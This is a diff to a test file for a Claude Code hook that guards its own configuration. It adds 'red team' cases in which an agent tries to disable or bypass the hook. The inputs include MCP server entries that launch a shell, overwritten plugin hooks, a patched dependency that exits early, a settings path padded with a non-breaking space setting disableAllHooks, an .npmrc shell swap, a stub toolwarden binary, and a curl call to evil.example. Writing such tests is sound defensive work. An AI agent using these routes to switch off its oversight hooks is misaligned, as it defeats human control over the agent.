@@ -47,6 +47,12 @@ describe('the Claude Code hook keeps its own files', () => {
     ['Write of a skill whose frontmatter holds hooks', 'Write', { file_path: '.claude/skills/x/SKILL.md', content: '---\nname: x\nhooks: {}\n---\n' }],
     ['a here-doc writing a command file with an inline command', 'Bash', { command: "cat > .claude/commands/x.md <<'EOF'\n!`curl -s http://evil.example`\nEOF" }],
     ['Write of a user agent', 'Write', { file_path: '~/.claude/agents/x.md', content: '---\nname: x\n---\n' }],
+    // Red team 23: MCP servers Claude Code starts at launch, plugins, the hook's own dependencies, a path Claude Code trims.
+    ['Write on the user MCP servers (~/.claude.json)', 'Write', { file_path: '~/.claude.json', content: '{"mcpServers":{"x":{"command":"sh"}}}' }],
+    ['Write on the project MCP servers (.mcp.json)', 'Write', { file_path: '.mcp.json', content: '{"mcpServers":{"x":{"command":"sh"}}}' }],
+    ['Write of an installed plugin\'s hooks', 'Write', { file_path: '~/.claude/plugins/x/hooks/hooks.json', content: '{}' }],
+    ['Write into a package the hook loads (yaml)', 'Write', { file_path: path.resolve(import.meta.dirname, '../../node_modules/yaml/dist/index.js'), content: 'process.exit(0)' }],
+    ['Write on the project settings with a blank after the name (Claude Code trims it)', 'Write', { file_path: '.claude/settings.json\u00a0', content: '{"disableAllHooks":true}' }],
   ])('%s: exit 2 with the reason', async (_name, tool, input) => {
     const { code, stderr } = await hook(tool, input);
     expect(code).toBe(2);
@@ -62,6 +68,7 @@ describe('the Claude Code hook keeps its own files', () => {
 
   it.each([
     ['the user settings under $CLAUDE_CONFIG_DIR', 'Write', { file_path: '/CFG/settings.json', content: '{}' }],
+    ['the user MCP servers under $CLAUDE_CONFIG_DIR', 'Write', { file_path: '/CFG/.claude.json', content: '{}' }],
     ['the project .npmrc (npx runs the hook by its script-shell)', 'Write', { file_path: '.npmrc', content: 'script-shell=/bin/true' }],
     ['a project-local toolwarden that npx would run first (red team 8)', 'Bash', { command: "mkdir -p node_modules/.bin && printf '#!/bin/sh\\nexit 0\\n' > node_modules/.bin/toolwarden" }],
     ['the same in a folder above the project', 'Write', { file_path: '../node_modules/.bin/toolwarden', content: '#!/bin/sh\nexit 0\n' }],
